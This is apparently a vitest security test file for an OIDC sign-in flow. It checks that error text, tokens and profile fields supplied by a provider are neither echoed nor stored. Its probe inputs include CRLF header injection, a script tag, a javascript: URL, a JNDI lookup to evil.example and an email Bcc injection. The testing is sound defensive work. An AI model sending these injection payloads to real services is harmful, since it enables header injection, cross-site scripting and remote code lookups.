import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { json } from "../fixtures/providers/replies.ts";
import { type RiggedProvider, startRiggedProvider } from "../fixtures/providers/rigged-provider.ts";
import { type Attempt, attempt, CLIENT, expectNothing, restore } from "../fixtures/rigged-sign-in.ts";

/** What must come out nowhere. */
const MARK = "zq-mark-zq";
const HOSTILE: readonly (readonly [string, string])[] = [
  ["a header behind CR and LF", `${MARK}\r\nSet-Cookie: a=${MARK}`],
  ["a bare LF", `${MARK}\nLocation: https://evil.example`],
  ["markup", `<script>alert("${MARK}")</script>`],
  ["a scheme", `javascript:alert("${MARK}")`],
  ["a URL", `https://evil.example/${MARK}`],
  ["emoji", `😀${MARK}😀`],
  ["marks that turn the direction", `\u202e${MARK}\u2066`],
  ["a null byte", `\u0000${MARK}`],
  ["an escape of a terminal", `\u001b[31m${MARK}`],
  ["a format string", `%s%n\${jndi:ldap://evil.example/${MARK}}`],
  ["100 kB", MARK.repeat(10_000)],
  ["__proto__", "__proto__"],
];

const REPORTED = "the provider reports an error";
const REFUSED = "the provider refuses the code";

let rig: RiggedProvider;
const console_ = ["log", "info", "warn", "error", "debug"] as const;

beforeAll(async () => {
  rig = await startRiggedProvider();
});
beforeEach(() => {
  for (const level of console_) vi.spyOn(console, level);
});
afterEach(() => {
  restore(rig);
  vi.restoreAllMocks();
});
afterAll(() => rig.close());

/** Nothing of it is in our answer. The developer reads it in one line without controls, and in the diagnosis of the event. */
async function expectSilence({ response, server }: Attempt): Promise<void> {
  const said = console_.flatMap((level) => vi.mocked(console[level]).mock.calls);
  for (const [line, ...more] of said) {
    expect(line).toMatch(/^latchkey: a sign-in with oidc failed: [^\p{C}\p{Zl}\p{Zp}]{1,1200}$/u);
    expect(more).toEqual([]);
  }
  const diagnoses = server.events.map((event) => (event.type === "oauth.failed" ? event.diagnosis : null));
  for (const { error, description } of diagnoses.filter((each) => each != null)) {
    for (const words of [error, description]) expect(words ?? "").toMatch(/^[^\p{C}\p{Zl}\p{Zp}]{0,301}$/u);
  }
  const events = server.events.map((event) => ({ ...event, diagnosis: undefined }));
  const told = JSON.stringify([events, [...response.headers], await response.clone().text()]);
  expect(told).not.toContain(MARK);
  expect(told).not.toMatch(/evil|script|__proto__/);
}

describe("OAU-20 an error at the callback", () => {
  it.each(HOSTILE)("is not repeated in our answer: %s", async (_, text) => {
    const before = rig.requestsTo("token").length;
    for (const changes of [
      { error: text },
      { error: "server_error", error_description: text },
      { error: "server_error", error_uri: text },
      { error: text, error_description: text, error_uri: text, code: undefined },
    ]) {
      const made = await attempt(rig, { changes });
      await expectSilence(made);
      await expectNothing(made, REPORTED);
    }
    expect(rig.requestsTo("token").length).toBe(before);
  });

  it("takes precedence over a code in the same answer (OAU-05)", async () => {
    const before = rig.requestsTo("token").length;
    for (const error of ["server_error", ""]) {
      await expectNothing(await attempt(rig, { changes: { error } }), REPORTED);
    }
    expect(rig.requestsTo("token").length).toBe(before);
  });

  it("is assumed where the code is missing, empty or too long", async () => {
    const before = rig.requestsTo("token").length;
    for (const code of [undefined, "", "x".repeat(4_097)]) {
      await expectNothing(await attempt(rig, { changes: { code } }), REPORTED);
    }
    expect(rig.requestsTo("token").length).toBe(before);
  });

  it.each(["access_denied", "user_cancelled_authorize"])(
    "is reported as a denial for the value %s",
    async (error) => {
      const changes = { error, error_description: MARK, code: undefined };
      const made = await attempt(rig, { changes });
      await expectSilence(made);
      await expectNothing(made, "The sign-in was cancelled at the provider.", "oauth_denied");
    },
  );

  it.each([
    "ACCESS_DENIED",
    "access_denied ",
    "access_denied\u0000",
    "invalid_request",
    "temporarily_unavailable",
    "login_required",
  ])("is reported as a failure for the value %j", async (error) => {
    await expectNothing(await attempt(rig, { changes: { error, code: undefined } }), REPORTED);
  });

  it("is answered with 400 where it appears twice or the state is invalid", async () => {
    const { browser, response, server, writes } = await attempt(rig, {
      changes: { state: MARK, error: MARK },
    });
    expect({ status: response.status, error: (await response.json()).error }).toEqual({
      status: 400,
      error: "oauth_state_invalid",
    });
    expect(JSON.stringify([server.events, [...response.headers]])).not.toContain(MARK);
    const twice = await browser.get(`/auth/oauth/oidc/callback?error=${MARK}&error=${MARK}&state=${MARK}`);
    expect({ status: twice.status, text: await twice.text() }).toEqual({
      status: 400,
      text: expect.not.stringContaining(MARK),
    });
    expect(writes).toEqual([]);
  });
});

describe("OAU-20 an error at an endpoint", () => {
  it.each(HOSTILE)("is not repeated in our answer: %s", async (_, text) => {
    const body = { error: text, error_description: text };
    for (const status of [200, 400, 401]) {
      rig.answers.token = () => json(body, status, { "x-error": MARK, "www-authenticate": `Bearer ${MARK}` });
      const made = await attempt(rig);
      await expectSilence(made);
      await expectNothing(made, REFUSED);
    }
    restore(rig);
    rig.answers.userinfo = () => json(body, 401);
    const made = await attempt(rig);
    await expectSilence(made);
    await expectNothing(made, "the provider answers with an unexpected status");
  });

  it("is not repeated where it is in an ID token, a key set or the metadata", async () => {
    rig.idToken = (right) => rig.mint({ claims: { ...right, iss: MARK, aud: MARK }, header: { kid: MARK } });
    await expectSilence(await attempt(rig));
    restore(rig);
    rig.jwks = [{ kid: rig.key.kid, kty: MARK, alg: MARK, n: MARK }];
    await expectSilence(await attempt(rig));
  });

  it("reveals no part of our secret, whatever the provider repeats", async () => {
    rig.answers.token = ({ headers }) => {
      throw new Error(`${MARK} ${headers.authorization} ${CLIENT.clientSecret}`);
    };
    const made = await attempt(rig);
    await expectSilence(made);
    await expectNothing(made, "the provider answers with an unexpected status");
  });
});

it.each([
  ["a name", "name", "Ann\r\nSet-Cookie: a=b"],
  ["a name of 10 kB", "name", "x".repeat(10_000)],
  ["a name with an escape of a terminal", "name", "\u001b[31mAnn"],
  ["a name that is half a pair", "name", "\ud800"],
  ["a name that is an object", "name", { first: "Ann" }],
  ["an address with a line end", "email", "ann@example.com\r\nBcc: x@example.com"],
  ["an address of 10 kB", "email", `${"x".repeat(10_000)}@example.com`],
  ["an address in a list", "email", ["ann@example.com"]],
])("OAU-20 a failed callback stores nothing of %s", async (_, member, value) => {
  rig.person = { sub: "rigged-1", [member]: value };
  const { server } = await attempt(rig);
  const user = await server.store.users.findByAccount({ provider: "oidc", subject: "rigged-1" });
  expect(user).toMatchObject({ email: null, name: null, emailVerified: false });
});
